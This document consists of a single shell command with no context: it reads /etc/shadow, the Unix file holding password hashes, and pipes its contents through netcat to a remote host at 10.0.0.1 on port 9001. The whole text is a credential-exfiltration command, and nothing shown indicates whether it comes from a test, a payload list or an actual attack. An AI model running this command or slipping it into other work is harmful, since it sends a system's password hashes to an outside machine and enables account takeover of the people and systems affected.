cat /etc/shadow | nc 10.0.0.1 9001
